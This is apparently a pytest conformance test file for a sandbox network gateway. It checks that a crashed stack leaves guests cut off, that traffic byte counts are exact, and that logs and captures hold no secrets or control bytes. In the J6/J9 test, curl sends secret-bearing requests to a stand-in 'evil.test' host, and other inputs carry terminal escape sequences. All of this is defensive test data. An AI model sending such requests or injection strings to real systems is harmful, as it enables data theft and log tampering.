"""Conformance classes I and J with a real guest: what a stack that dies leaves, and what is told of real programs."""

from __future__ import annotations

import contextlib
import json
import signal
import socket
import subprocess
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from conformance.recorded import Replay, comments, read

from netstack.config import network_settings
from netstack.gateway.event_log import event_fields
from netstack.network_spec import NetworkSpec

from .lab import wait_until
from .netstack_process import COMMAND, ENVIRONMENT
from .network import TAP, start_network
from .open_internet import ATTACKER, BANNER, NAMES, RULES, SITE, SITE_TOO, Guest, OpenInternet, request

pytestmark = pytest.mark.guest("ip", "openssl", "curl", "dig", "ping", "tshark")

NO_NETWORK = {"OSError", "TimeoutError", "ConnectionRefusedError", "ConnectionResetError"}


@pytest.fixture
def guest(internet: OpenInternet) -> Iterator[Callable[..., Guest]]:
    """`guest(OPTIONS, link=...)`: guests for one test."""
    made: list[Guest] = []

    def start(*options: str, link: str = "tap", **more: object) -> Guest:
        made.append(Guest(internet, start_network(internet, link, options=options, **more)))  # type: ignore[arg-type]  # as start_guest has it
        return made[-1]

    yield start
    for one in made:
        one.network.close()


def command(internet: OpenInternet, *words: str) -> subprocess.CompletedProcess[str]:
    """A netstack command where gateways run."""
    python_path = f"PYTHONPATH={ENVIRONMENT['PYTHONPATH']}"
    return internet.host.run("env", python_path, *COMMAND, *words, check=False)


# -- I1, I2 -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "options",
    [
        ["--allow-net", "*.com"],
        ["--allow-net", "pypi.org", "--network", "disabled"],
        ["--allow-net", "pypi.org", "--capture", "/no/such/directory/x"],
        ["--allow-net", "pypi.org", "--events", "/no/such/directory/x"],
        ["--allow-net", "pypi.org", "--hook", "/no/such/hook.py"],
        ["--allow-net", "pypi.org", "--config", "/no/such/policy.yaml"],
        ["--allow-net", "pypi.org", "--dns-upstream", "nobody"],
    ],
    ids=lambda options: " ".join(options[-2:]),
)
def test_I1_I2_the_command_is_not_run(internet: OpenInternet, tmp_path: Path, options: list[str]) -> None:
    """Whoever asked for a sandbox and does not get it gets no command outside of it either."""
    marker = tmp_path / "ran"
    done = command(internet, "guest", *options, "--", "touch", str(marker))
    assert done.returncode in (1, 2)
    assert not marker.exists()
    assert done.stderr.count("\n") == 1, done.stderr


def test_I2_a_tap_that_was_made_goes_again(internet: OpenInternet) -> None:
    """The device is set up, then something else is not: the guest's namespace has no card any more."""
    namespace = internet.lab.namespace("half-made")
    done = command(internet, "run", "--tap", TAP, "--netns", namespace.path, "--capture", "/no/such/directory/x")
    assert done.returncode == 1
    assert TAP not in namespace.run("ip", "-o", "link").stdout


# -- I3 ---------------------------------------------------------------------------------------------------------------


def test_I3_no_resolver(guest: Callable[..., Guest]) -> None:
    """Nobody answers at the upstream: names fail or are sunk, nothing is reached by them, and it is said."""
    one = guest("--allow-net", RULES, "--dns-upstream", "127.0.0.99:53", upstream=False)
    with one.nothing_dialled():
        assert one.resolved("evil.test") == ["0.0.0.0"]
        assert one.resolved("real.test") == []
        assert one.curl("https://real.test/")[0] == 6
        assert one.curl("--resolve", f"real.test:443:{SITE}", "https://real.test/")[0] == 35
        assert one.error(SITE, 2222) == "ConnectionRefusedError"
    events = one.network.gateway.events()
    assert {event["rcode"] for event in events if event.get("name") == "real.test" and event["event"] == "dns"} == {
        "SERVFAIL"
    }
    assert [event for event in events if event["event"] == "flow_opened"] == []
    said = [line for line in one.network.gateway.process.log.splitlines() if "no DNS server answers" in line]
    assert said == [
        "netstack: no DNS server answers (asked: 127.0.0.99:53): guests are told SERVFAIL, and names cannot be dialled"
    ]
    (refused,) = one.told(1)
    assert (refused["destination"], refused["reason_code"]) == (f"{SITE}:2222", "no-rule")
    with one.reaches(f"{SITE_TOO}:8080", "address-rule"), one.connect(SITE_TOO, 8080) as connection:
        assert connection.recv(100) == BANNER


# -- I7 ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGSEGV, signal.SIGABRT], ids=lambda number: number.name)
@pytest.mark.parametrize("link", ["tap", "dgram"])
def test_I7_a_stack_that_dies(guest: Callable[..., Guest], link: str, number: signal.Signals) -> None:
    """The guest is left without a network: nothing passes on an open flow, and nothing new is opened anywhere."""
    one = guest("--allow-net", RULES, link=link)
    network = one.network
    with one.connect(SITE_TOO, 8080) as connection:
        assert connection.recv(100) == BANNER
        network.gateway.process.signal(number)
        network.gateway.status = network.expected_status = network.gateway.process.wait()
        assert network.gateway.status == -number
        for path in network.gateway.files:
            path.unlink()
        visit = one.internet.witness.visits[-1]
        with one.nothing_dialled():
            before = visit.data
            with contextlib.suppress(OSError):
                connection.sendall(b"is anybody there?")
            for address, port in ((SITE_TOO, 8080), (SITE, 443), (ATTACKER, 22), ("10.0.0.7", 80)):
                with one.namespace.socket() as attempt:
                    attempt.settimeout(2)
                    with pytest.raises(OSError, match=r".") as failed:
                        attempt.connect((address, port))
                assert type(failed.value).__name__ in NO_NETWORK
            assert one.namespace.run("dig", "+time=1", "+tries=1", "real.test", check=False).returncode != 0
            assert visit.data == before
    links = one.namespace.run("ip", "-o", "link").stdout
    assert link != "tap" or TAP not in links, "it goes with the process that held it"


def test_I7_the_command_of_a_sandbox_is_not_set_free(internet: OpenInternet, tmp_path: Path) -> None:
    """`netstack guest` is killed: its command is still in the namespace, and there is nothing there, or it is gone."""
    marker, answer = tmp_path / "pid", tmp_path / "answer"
    script = f"""
    curl -sS -m 20 --resolve real.test:80:{SITE} http://real.test/ && echo $$ > {marker}
    while [ ! -e {tmp_path}/go ]; do sleep 0.1; done
    curl -s -m 2 --resolve real.test:80:{SITE} http://real.test/ > {answer}; echo $? >> {answer}
    """
    options = ["--allow-net", "real.test", "--dns-upstream", "127.0.0.1:5353"]
    process = internet.host.spawn("guest", *COMMAND, "guest", *options, "--", "sh", "-uc", script, env=ENVIRONMENT)
    wait_until(lambda: marker.exists() and marker.read_text(), f"the command: {process.log}")
    pid = int(marker.read_text())
    process.signal(signal.SIGKILL)
    assert process.wait() == -signal.SIGKILL
    visits = len(internet.witness.visits)
    (tmp_path / "go").touch()
    wait_until(lambda: not Path(f"/proc/{pid}").exists(), "the command's end")
    assert not answer.exists() or answer.read_text().split()[-1:] != ["0"]
    assert internet.witness.visits[visits:] == []


# -- J4 ---------------------------------------------------------------------------------------------------------------


def test_J4_bytes_as_the_server_counted_them(guest: Callable[..., Guest]) -> None:
    """By name and by address, TLS and plain: what the event says was sent is what the server got, to the byte."""
    one = guest("--allow-net", RULES)
    for name, port, said in (("real.test", 80, request("Host: real.test")), ("shell.test", 2222, b"x" * 100_000)):
        one.told(0)
        (address,) = one.resolved(name)
        with one.connect(address, port) as connection:
            got = b"" if port == 80 else connection.recv(len(BANNER), socket.MSG_WAITALL)
            connection.sendall(said)
            wanted = len(said) if port != 80 else len(f"{SITE} for real.test\n") + 39
            while len(got) < wanted + (len(BANNER) if port != 80 else 0):
                data = connection.recv(65_536)
                assert data, got
                got += data
            connection.shutdown(socket.SHUT_WR)
            while data := connection.recv(65_536):
                got += data
        (closed,) = one.told(1, "flow_closed")
        visit = one.internet.witness.visits[-1]
        wait_until(lambda visit=visit, said=said: visit.data == said, "the server")
        assert (closed["sent"], closed["received"]) == (len(said), len(got))
        assert closed["reason"] == "finished"
    one.told(0)
    assert one.curl("https://real.test/")[0] == 0
    (closed,) = one.told(1, "flow_closed")
    assert closed["sent"] > 300, "hello and request"
    assert closed["received"] > 500, "certificate and answer"


# -- J5 ---------------------------------------------------------------------------------------------------------------


def test_J5_a_real_guest_replayed(guest: Callable[..., Guest], tmp_path: Path) -> None:
    """curl, dig and ping: the file opens in tshark with its comments, and leads to the same verdicts again."""
    capture = tmp_path / "guest.pcapng"
    one = guest("--allow-net", RULES, "--capture", str(capture))
    for arguments in (
        ["https://real.test/"],
        ["http://other.test/"],
        ["https://evil.test/"],
        ["--resolve", f"evil.test:443:{SITE}", "https://evil.test/"],
        ["--resolve", f"evil.test:80:{SITE}", "http://evil.test/"],
        ["--resolve", f"real.test:443:{ATTACKER}", "https://real.test/"],
        ["--resolve", f"inside.test:80:{SITE}", "http://inside.test/"],
        [f"http://{SITE}:8443/"],
        [f"http://{SITE_TOO}:8080/"],
    ):
        one.curl("-m", "20", *arguments)
    one.namespace.run("dig", "+time=10", "+tries=1", "evil.test", "TXT")
    one.namespace.run("ping", "-c1", "-W1", ATTACKER, check=False)
    assert one.network.gateway.stop() == 0
    told = [event for event in one.network.gateway.events() if event["event"] in ("flow_opened", "flow_refused")]
    frames = read(capture)
    beside = comments(frames)
    assert [line for line in beside if ": flow " not in line and ": question " not in line] == []
    for event in told:
        start = f"netstack: flow {event['flow']} {event['verdict']} at {event['step']}: {event['reason_code']}"
        assert len([line for line in beside if line.startswith(start)]) == 1, start
    shown = one.namespace.run(
        "tshark", "-r", str(capture), "-Y", "frame.comment", "-T", "fields", "-e", "frame.comment"
    )
    assert shown.stdout.splitlines() == beside
    spec = NetworkSpec.enabled(RULES.split(","))
    names = {name: addresses[0] for name, addresses in NAMES.items()}
    settings = network_settings()
    # The card leaves checksums to whoever sends its frames on: a capture shows them incomplete, as tcpdump's would.
    settings = replace(settings, link=replace(settings.link, verify_checksums=False))
    again = Replay(frames, spec, settings, names, tmp_path / "again.pcapng")
    fields = [event_fields(event) for event in again.events]
    wanted = ("protocol", "guest", "destination", "verdict", "step", "reason_code", "rule", "name", "told")
    assert Counter(picked(fields, wanted)) == Counter(picked(told, wanted))


def picked(events: list[dict[str, object]], wanted: tuple[str, ...]) -> list[tuple[object, ...]]:
    """Verdicts on flows, as far as they do not depend on who came first."""
    flows = [event for event in events if event["event"] in ("flow_opened", "flow_refused")]
    return [tuple(event.get(key) for key in wanted) for event in flows]


# -- J6, J9 -----------------------------------------------------------------------------------------------------------

SECRETS = ("s3cr3t-token", "s3cr3t-cookie", "s3cr3t-path", "s3cr3t-query", "s3cr3t-body", "s3cr3t-user")


def test_J6_J9_nothing_of_a_request_but_its_name(guest: Callable[..., Guest], tmp_path: Path) -> None:
    """At the most verbose level, with everything that writes switched on: no secret, no control byte."""
    capture = tmp_path / "guest.pcapng"
    one = guest("--allow-net", RULES, "--log-level", "debug", "--capture", str(capture))
    private = ["-H", "Authorization: Bearer s3cr3t-token", "-b", "session=s3cr3t-cookie", "-d", "s3cr3t-body"]
    path = "s3cr3t-path?key=s3cr3t-query"
    assert one.curl(*private, f"http://real.test/{path}")[0] == 0
    assert one.curl(*private, f"https://real.test/{path}")[0] == 0
    for url in (f"http://evil.test/{path}", f"https://evil.test/{path}", "http://s3cr3t-user:s3cr3t-token@evil.test/"):
        port = 443 if url.startswith("https") else 80
        _, body = one.curl(*private, "--resolve", f"evil.test:{port}:{SITE}", url)
        assert [secret for secret in SECRETS if secret in body] == []
    said = one.ask(SITE, request("Host: \x1b[2J\x07evil\x7f", "Cookie: s3cr3t-cookie", line=f"GET /{path} HTTP/1.1"))
    assert said.startswith(b"HTTP/1.1 403")
    assert said.partition(b"\r\n\r\n")[2].decode("ascii").rstrip("\n").isprintable()
    one.namespace.run("dig", "+time=2", "+tries=1", '\\027[2J\\010\\"evil.test', check=False)
    assert one.network.gateway.stop() == 0
    log = one.network.gateway.process.log
    events = one.network.gateway._events
    assert events is not None
    lines = events.read_text().split("\n")[:-1]
    assert all(line.isascii() and line.isprintable() for line in lines)
    assert all(isinstance(json.loads(line), dict) for line in lines)
    assert any("evil" in line and '"dns"' in line for line in lines)
    assert "".join(log.split("\n")).isprintable(), "nothing for the terminal to obey"
    beside = comments(read(capture))
    assert all(line.isascii() and line.isprintable() for line in beside)
    told = "\n".join([log, *lines, *beside])
    assert [secret for secret in SECRETS if secret in told] == []
    refused = [event for event in map(json.loads, lines) if event["event"] == "flow_refused"]
    assert [event["name"] for event in refused if "name" in event] == ["evil.test", "evil.test"]
    assert len(refused) == 3, "a third to evil.test is counted, not told"


def test_J7_refused_programs_end(guest: Callable[..., Guest]) -> None:
    """Each by the status of a refusal, none by curl's deadline (28); that no time passes the engine's tests show."""
    one = guest("--allow-net", RULES)
    for status, arguments in (
        (35, ["--resolve", f"evil.test:443:{SITE}", "https://evil.test/"]),
        (0, ["--resolve", f"evil.test:80:{SITE}", "http://evil.test/"]),
        (7, [f"http://{SITE}:8443/"]),
        (7, ["http://10.0.0.7/"]),
        (7, ["http://evil.test/"]),
    ):
        done = one.namespace.run(
            "curl", "-sS", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}", *arguments, check=False
        )
        assert done.returncode == status
        assert done.stdout == ("403" if status == 0 else "000")
